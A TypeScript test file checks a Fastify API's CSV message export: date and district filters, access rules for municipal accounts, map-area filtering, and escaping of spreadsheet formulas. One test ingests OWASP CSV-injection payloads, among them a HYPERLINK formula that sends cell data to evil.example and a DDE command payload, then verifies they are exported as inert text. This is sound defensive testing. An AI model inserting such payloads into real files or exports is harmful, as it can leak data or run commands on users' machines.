import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addUser, signIn } from '../auth/auth-helpers';
import { BACKENDS, createTestDatabase, type TestDatabase } from '../test-database';
import { buildTestApp, INGEST_TOKEN } from './app-helper';

const rowsOf = (csv: string) => (parse(csv.replace(/^\uFEFF/, '')) as string[][]).slice(1);
/** A column's index by its header name, so a new column does not shift what a test reads. */
const columnOf = (csv: string, name: string) =>
  (parse(csv.replace(/^\uFEFF/, '')) as string[][])[0]?.findIndex((h) => h.startsWith(name)) ?? -1;

describe.each(BACKENDS)('GET /api/v1/export/messages.csv (%s)', (backend) => {
  let db: TestDatabase;
  let app: FastifyInstance;
  beforeAll(async () => {
    db = await createTestDatabase(backend, 'seeded');
    app = await buildTestApp(db);
  });
  afterAll(async () => {
    await app?.close();
    await db?.close();
  });

  it('holds exactly the messages of the filters, newest first, as the database counts them', async () => {
    const url = '/api/v1/export/messages.csv?district=VIII.%20kerület&from=2025-03-01&to=2025-04-01';
    const response = await app.inject({ url });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = rowsOf(response.body);
    const [expected] = await db.sql<{ n: number }[]>`
      SELECT count(*)::int AS n FROM messages m JOIN districts d ON d.id = m.district_id
      WHERE d.name = 'VIII. kerület'
        AND m.created_at >= '2025-03-01T00:00:00+01:00' AND m.created_at < '2025-04-01T00:00:00+02:00'`;
    expect(rows.length).toBe(expected?.n);
    expect(rows.length).toBeGreaterThan(0);
    expect(new Set(rows.map((r) => r[columnOf(response.body, 'district')]))).toEqual(
      new Set(['VIII. kerület']),
    );
    const created = rows.map((r) => r[1] ?? '');
    expect([...created].sort().reverse()).toEqual(created);
    const one = (await app.inject({ url: `/api/v1/messages/${rows[0]?.[0]}` })).json();
    expect(rows[0]?.[columnOf(response.body, 'title')]).toBe(one.title ?? '');
  });

  it('a field that starts like a formula reaches the spreadsheet as text (OWASP CSV injection)', async () => {
    const ingest = await app.inject({
      method: 'POST',
      url: '/api/v1/messages',
      headers: { authorization: `Bearer ${INGEST_TOKEN}`, cookie: '' },
      payload: [
        {
          id: 'formula-1',
          // The shared ingest token writes its own source only (HEATMAP_INGEST_SOURCE, default api).
          source: 'api',
          createdAt: '2024-06-01T10:00:00Z',
          category: '-Egyéb',
          lat: 47.5,
          lon: 19.05,
          title: '=HYPERLINK("http://evil.example/?"&A1,"Kattints")',
          text: "+cmd|' /C calc'!A0",
          address: '@SUM(1+1)',
          executor: '\t=1+1',
        },
      ],
    });
    expect(ingest.statusCode, ingest.body).toBe(200);
    expect(ingest.json().inserted, ingest.body).toBe(1);
    const response = await app.inject({ url: '/api/v1/export/messages.csv?source=api' });
    expect(response.statusCode).toBe(200);
    const lines = response.body.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[1]).toContain(`,"'-Egyéb",api,`);
    expect(lines[1]).toContain(
      `,"'@SUM(1+1)","'=1+1","'=HYPERLINK(""http://evil.example/?""&A1,""Kattints"")",`,
    );
    expect(lines[1]).toContain(`,"'+cmd|' /C calc'!A0",`);
    const [row] = rowsOf(response.body);
    expect(row?.[columnOf(response.body, 'title')]).toBe(
      `'=HYPERLINK("http://evil.example/?"&A1,"Kattints")`,
    );
  });

  it('a municipal account exports only its own district, and asking for another is 403', async () => {
    await addUser(db.sql, `clerk-${backend}`, 'municipal', 'clerk test password', ['IX. kerület']);
    const clerk = await signIn(app, `clerk-${backend}`, 'clerk test password');
    const headers = { cookie: clerk.cookieHeader };
    const own = await app.inject({ url: '/api/v1/export/messages.csv?from=2025-01-01', headers });
    expect(own.statusCode).toBe(200);
    const rows = rowsOf(own.body);
    const [expected] = await db.sql<{ n: number }[]>`
      SELECT count(*)::int AS n FROM messages m JOIN districts d ON d.id = m.district_id
      WHERE d.name = 'IX. kerület' AND m.created_at >= '2025-01-01T00:00:00+01:00'`;
    expect(rows.length).toBe(expected?.n);
    expect(new Set(rows.map((r) => r[8]))).toEqual(new Set(['IX. kerület']));
    const foreign = await app.inject({
      url: '/api/v1/export/messages.csv?district=VIII.%20kerület',
      headers,
    });
    expect(foreign.statusCode).toBe(403);
  });

  it('a bbox (the map’s visible area) keeps the messages inside it; a municipal one stays in its district', async () => {
    const period = 'from=2025-03-01&to=2025-04-01';
    const [west, south, east, north] = [19.03, 47.48, 19.08, 47.51];
    const url = `/api/v1/export/messages.csv?${period}&bbox=${west},${south},${east},${north}`;
    await addUser(db.sql, `boxadmin-${backend}`, 'admin', 'boxadmin test password');
    const admin = {
      cookie: (await signIn(app, `boxadmin-${backend}`, 'boxadmin test password')).cookieHeader,
    };
    const region = rowsOf(
      (await app.inject({ url: `/api/v1/export/messages.csv?${period}`, headers: admin })).body,
    );
    const visible = rowsOf((await app.inject({ url, headers: admin })).body);
    expect(visible.length).toBeGreaterThan(0);
    expect(visible.length).toBeLessThan(region.length);
    // lat and lon are the last two columns.
    const inside = (row: string[]) => {
      const [lat, lon] = row.slice(-2).map(Number) as [number, number];
      return lon >= west && lon <= east && lat >= south && lat <= north;
    };
    expect(visible.every(inside)).toBe(true);
    expect(region.filter(inside).length).toBe(visible.length);

    await addUser(db.sql, `boxed-${backend}`, 'municipal', 'boxed test password', ['IX. kerület']);
    const clerk = await signIn(app, `boxed-${backend}`, 'boxed test password');
    const own = rowsOf((await app.inject({ url, headers: { cookie: clerk.cookieHeader } })).body);
    expect(new Set(own.map((row) => row[8]))).toEqual(new Set(['IX. kerület']));
    expect(own.length).toBe(visible.filter((row) => row[8] === 'IX. kerület').length);
  });

  it('anonymous callers get 401', async () => {
    const response = await app.inject({ url: '/api/v1/export/messages.csv', headers: { cookie: '' } });
    expect(response.statusCode).toBe(401);
  });
});
